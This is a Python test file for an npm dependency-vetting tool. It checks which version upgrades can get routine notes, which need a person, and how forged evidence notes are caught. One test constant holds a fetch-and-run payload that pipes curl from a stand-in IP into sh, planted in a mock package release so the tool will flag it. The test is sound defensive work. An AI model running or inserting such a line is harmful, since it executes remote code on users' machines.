"""``note`` without words under ``balanced``: what is routine, what needs a person, and the proof."""

from __future__ import annotations

import contextlib
import itertools
import json
import os
import shlex
import shutil
import tomllib
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from npm_vetted.commands._common import opened
from npm_vetted.commands._online_evidence import OnlineEvidence, recomputed_evidence
from npm_vetted.commands._routine_notes import routine_drafts
from npm_vetted.recording.proposals import item_of, uncovered
from npm_vetted.registry import Registry
from npm_vetted.registry.settings import load_settings
from npm_vetted.vetting.presets import PRESETS
from tests.support.changes import change, project
from tests.support.git_repo import GitRepo
from tests.support.npm_projects import Done, check, entry, note_text, run
from tests.support.verdaccio import Verdaccio

NOW = datetime.now(UTC)
OLD = NOW - timedelta(days=400)
NOTE = ".vetting/routine/stepper/{}.toml"
WRITES = "require('child_process').exec('curl http://192.0.2.7/x | sh');\n"


@pytest.fixture(scope="module")
def shelf(verdaccio: Verdaccio) -> Verdaccio:
    """A package with steps of each kind, and what it brings."""
    brings: dict[str, Any] = {"dependencies": {"stepper-dep": "^1.0.0"}}
    for version in ("1.0.0", "1.0.1", "1.0.2"):
        verdaccio.publish("stepper-dep", version, files={"index.js": f"exports.v = '{version}'\n"})
    verdaccio.publish("stepper-new", "1.0.0")
    plain = {"README.md": "Steps.\n"}
    for version in ("1.0.0", "1.0.1", "1.0.2", "1.1.0", "2.0.0", "1.0.3-rc.1", "1.0.9"):
        verdaccio.publish("stepper", version, files=plain, **brings)
    verdaccio.publish("stepper", "1.0.4", files={**plain, "index.js": WRITES}, **brings)
    verdaccio.publish("stepper", "1.0.5", files=plain, scripts={"postinstall": "node ."}, **brings)

    def age(data: dict[str, Any]) -> None:
        data["time"] |= {version: OLD.isoformat() for version in data["versions"]}
        data["time"]["created"] = OLD.isoformat()

    def rejuvenate(data: dict[str, Any]) -> None:
        age(data)
        data["time"]["1.0.9"] = (NOW - timedelta(days=2)).isoformat()

    verdaccio.edit("stepper", rejuvenate)
    verdaccio.edit("stepper-dep", age)
    verdaccio.edit("stepper-new", age)
    return verdaccio


def lock(repo: GitRepo, url: str, **versions: str) -> None:
    """Lock a package, which a manifest requires, and others, which it brings."""
    registry = Registry(load_settings({}, registry_of=lambda _: url))
    names = {name.replace("_", "-"): version for name, version in versions.items()}
    [own, *others] = names
    asked = {own: names[own]}
    packages: dict[str, object] = {"": {"name": "app", "dependencies": asked}}
    for name, version in names.items():
        found = registry.packument(name).release(version)
        needs = {"dependencies": dict.fromkeys(others, "*")} if name == own else {}
        packages[f"node_modules/{name}"] = {
            "version": version, "resolved": found.tarball, "integrity": found.integrity, **needs,
        }  # fmt: skip
    data = {"name": "app", "lockfileVersion": 3, "requires": True, "packages": packages}
    repo.write("package.json", json.dumps({"name": "app", "dependencies": asked}))
    repo.write("package-lock.json", json.dumps(data, indent=2))
    repo.git("add", "-A")


@pytest.fixture
def repo(git_repo: GitRepo, shelf: Verdaccio) -> GitRepo:
    """A repository that adopted with ``balanced`` when it locked 1.0.0."""
    git_repo.write(".npmrc", f"registry={shelf.url}\nignore-scripts=true\n")
    lock(git_repo, shelf.url, stepper="1.0.0", stepper_dep="1.0.0")
    git_repo.commit("Start")
    run(git_repo.path, "init", "--policy", "balanced")
    assert (
        (git_repo.path / ".vetting/config.toml")
        .read_text()
        .startswith(PRESETS["balanced"].partition("[registries]")[0].partition("\n\n")[0])
    )
    git_repo.commit("Adopt")
    return git_repo


def note(repo: GitRepo, *words: str) -> Done:
    return run(repo.path, "note", *words)


def rejected(repo: GitRepo) -> list[tuple[str, str | None]]:
    checks = ("notes", "unvetted", "cooldown", "install-scripts", "integrity")
    return check(repo, *checks, add=False).judged


def test_a_patch_step_with_what_it_brings(repo: GitRepo, shelf: Verdaccio) -> None:
    lock(repo, shelf.url, stepper="1.0.1", stepper_dep="1.0.1")
    assert rejected(repo)
    done = note(repo)
    assert done.status == 0, done.err
    data = tomllib.loads((repo.path / NOTE.format("1.0.1")).read_text())
    assert (data["package"], data["version"], data["from"]) == ("stepper", "1.0.1", "1.0.0")
    assert data["criteria"] == []
    assert "why" not in data
    [brought] = data["brings"]
    assert (brought["package"], brought["from"]) == ("stepper-dep@1.0.1", "1.0.0")
    assert data["evidence"]["score"] < 5
    assert data["evidence"]["signals-version"] >= 1
    assert rejected(repo) == []
    assert note(repo).status == 0


def test_a_named_package_and_a_transitive_step_alone(repo: GitRepo, shelf: Verdaccio) -> None:
    lock(repo, shelf.url, stepper="1.1.0", stepper_dep="1.0.0")
    assert note(repo, "stepper@1.1.0").status == 0
    repo.commit("A minor step", add=False)
    lock(repo, shelf.url, stepper="1.1.0", stepper_dep="1.0.2")
    assert note(repo).status == 0
    assert rejected(repo) == []
    assert (repo.path / ".vetting/routine/stepper-dep/1.0.2.toml").is_file()


@pytest.mark.parametrize(
    ("versions", "words"),
    [
        ({"stepper": "2.0.0", "stepper_dep": "1.0.0"}, "requires changelog"),
        ({"stepper": "1.0.3-rc.1", "stepper_dep": "1.0.0"}, "requires changelog"),
        ({"stepper": "1.0.4", "stepper_dep": "1.0.0"}, "signals with a score of"),
        ({"stepper": "1.0.5", "stepper_dep": "1.0.0"}, "has lifecycle scripts"),
        ({"stepper": "1.0.9", "stepper_dep": "1.0.0"}, "inside the cooldown"),
        (
            {"stepper": "1.0.1", "stepper_dep": "1.0.0", "stepper_new": "1.0.0"},
            "stepper-new@1.0.0 is new to the repository",
        ),
    ],
)
def test_what_needs_a_person(
    repo: GitRepo, shelf: Verdaccio, versions: dict[str, str], words: str
) -> None:
    lock(repo, shelf.url, **versions)
    done = note(repo)
    assert done.status == 1
    assert words in done.err
    assert not (repo.path / ".vetting/routine").exists()
    assert rejected(repo)


def test_the_command_names_the_scripts_that_only_the_registry_tells(
    repo: GitRepo, shelf: Verdaccio
) -> None:
    lock(repo, shelf.url, stepper="1.0.5", stepper_dep="1.0.0")
    command = note(repo).err.splitlines()[-1]
    assert command.endswith('note "stepper@1.0.5" --criteria scripts -m REASON')
    words = [word.replace("REASON", "The script was read.") for word in shlex.split(command)[2:]]
    assert note(repo, *words).status == 0
    assert rejected(repo) == []


def test_several_that_need_a_person_have_one_command(repo: GitRepo, shelf: Verdaccio) -> None:
    lock(repo, shelf.url, stepper="2.0.0", stepper_dep="1.0.0", stepper_new="1.0.0")
    for name in ("package.json", "package-lock.json"):
        text = (repo.path / name).read_text()
        direct = '"stepper": "2.0.0", "stepper-new": "1.0.0"'
        repo.write(name, text.replace('"stepper": "2.0.0"', direct))
    repo.git("add", "-A")
    done = note(repo)
    assert (done.status, done.err.count(" needs a person: ")) == (1, 2), done.err
    command = done.err.partition("one command for all of them:\n")[2].splitlines()[0]
    words = [word.replace("REASON", "Both were read.") for word in shlex.split(command)[1:]]
    assert note(repo, *words[1:]).status == 0
    assert rejected(repo) == []


def test_what_an_allow_list_names_needs_a_person_once(repo: GitRepo, shelf: Verdaccio) -> None:
    """The version has no scripts today; the entry lets those of the bytes run that a note admits."""
    lock(repo, shelf.url, stepper="1.0.1", stepper_dep="1.0.0")
    manifest = json.loads((repo.path / "package.json").read_text())
    allowed = {**manifest, "allowScripts": {"stepper": True}}
    repo.write("package.json", json.dumps(allowed))
    repo.git("add", "-A")
    done = note(repo)
    assert done.status == 1
    assert "stepper@1.0.1 may run scripts: an allow-list names it" in done.err
    fixes = {each["fix"] for each in check(repo, "unvetted", "install-scripts", add=False).findings
             if each["package"] == "stepper"}  # fmt: skip
    assert len(fixes) == 1, fixes
    [words] = map(shlex.split, fixes)
    assert (
        note(repo, *words[2:], "-m", "The manifest has no scripts; the diff was read.").status == 0
    )
    assert ("install-scripts", "stepper") not in rejected(repo)
    assert ("unvetted", "stepper") not in rejected(repo)


def test_the_registry_is_never_guessed(repo: GitRepo, shelf: Verdaccio) -> None:
    lock(repo, shelf.url, stepper="1.0.1", stepper_dep="1.0.0")
    done = note(repo, "--offline")
    assert done.status == 1
    assert "without the registry" in done.err
    assert not (repo.path / ".vetting/routine").exists()


def test_words_are_always_a_note_of_a_person(repo: GitRepo, shelf: Verdaccio) -> None:
    lock(repo, shelf.url, stepper="1.0.1", stepper_dep="1.0.0")
    assert note(repo, "stepper", "-m", "The diff was read.").status == 0
    assert (repo.path / ".vetting/notes/stepper/1.0.1.toml").is_file()


def test_ten_steps_in_a_row_then_a_person(repo: GitRepo, shelf: Verdaccio) -> None:
    """The eleventh step is refused by ``note``, and by the hook where the note was written by hand."""
    lock(repo, shelf.url, stepper="1.0.1", stepper_dep="1.0.0")
    assert note(repo).status == 0
    text = (repo.path / NOTE.format("1.0.1")).read_text()
    chain = ["1.0.0", *(f"1.0.0-step.{number}" for number in range(1, 11))]
    for before, after in itertools.pairwise(chain):
        body = text.replace('"1.0.1"', f'"{after}"').replace('from = "1.0.0"', f'from = "{before}"')
        repo.write(NOTE.format(after), body)
    repo.write(NOTE.format("1.0.1"), text.replace('from = "1.0.0"', f'from = "{chain[-1]}"'))
    repo.git("add", "-A")
    found = check(repo, "notes", add=False).findings
    assert any("10 routine steps in a row" in each["message"] for each in found)


def evidence(repo: GitRepo) -> OnlineEvidence:
    shutil.rmtree(Path(os.environ["XDG_CACHE_HOME"]), ignore_errors=True)
    with contextlib.chdir(repo.path), opened(from_ref="HEAD~", to_ref="HEAD") as (_, change):
        return recomputed_evidence(change)


def test_the_online_check_confirms_a_true_note(repo: GitRepo, shelf: Verdaccio) -> None:
    lock(repo, shelf.url, stepper="1.0.1", stepper_dep="1.0.1")
    assert note(repo).status == 0
    repo.commit("A step", add=False)
    assert evidence(repo) == OnlineEvidence((), frozenset())


def test_the_online_check_finds_a_forged_score(repo: GitRepo, shelf: Verdaccio) -> None:
    """A bot that was taken over writes a clean note for a bad release."""
    lock(repo, shelf.url, stepper="1.0.1", stepper_dep="1.0.0")
    assert note(repo).status == 0
    text = (repo.path / NOTE.format("1.0.1")).read_text()
    own = Registry(load_settings({}, registry_of=lambda _: shelf.url)).packument("stepper")
    old, new = own.release("1.0.1").integrity, own.release("1.0.4").integrity
    assert old is not None
    assert new is not None
    (repo.path / NOTE.format("1.0.1")).unlink()
    lock(repo, shelf.url, stepper="1.0.4", stepper_dep="1.0.0")
    repo.write(NOTE.format("1.0.4"), text.replace('"1.0.1"', '"1.0.4"').replace(old, new))
    repo.git("add", "-A")
    assert rejected(repo) == []
    repo.commit("A forged step", add=False)
    [finding] = evidence(repo).findings
    assert (finding.check, finding.code) == ("notes", "evidence-differs")
    assert finding.key == "stepper@1.0.4 signals"


def steps(outer: str, inner: str) -> dict[str, str]:
    """``a`` stays; ``b``, which it requires, brings ``c``."""
    packages = {
        "a": entry("a", dependencies={"b": "*"}),
        "b": entry("b", outer, dependencies={"c": "*"}),
        "c": entry("c", inner),
    }
    return project(packages, dependencies={"a": "*"})


NOTED = {f".vetting/notes/{name}/1.0.0.toml": note_text(name) for name in "abc"}


@pytest.mark.parametrize(
    ("outer", "inner", "expected"),
    [
        ("1.1.0", "2.0.0", {"b@1.1.0": ["c@2.0.0"]}),  # listed with what brings it, as for a person
        ("1.1.0", "1.0.1", {"b@1.1.0": ["c@1.0.1"]}),
        ("1.0.0", "2.0.0", {}),  # nothing brings it: its own step counts
        ("2.0.0", "2.0.0", {}),
        ("2.0.0", "1.0.1", {"c@1.0.1": []}),
    ],
)
def test_what_a_step_brings_goes_with_it_whoever_requires_that(
    outer: str, inner: str, expected: dict[str, list[str]]
) -> None:
    config = "[policy]\nupgrade = { minor = [], patch = [] }\n"
    before = {**NOTED, **steps("1.0.0", "1.0.0")}
    found = change(before, {**NOTED, **steps(outer, inner)}, config)
    drafts = routine_drafts(found, [item_of(found, use) for use in uncovered(found)])
    assert {
        each.label: [item.artifact.label for item in each.brings] for each in drafts
    } == expected
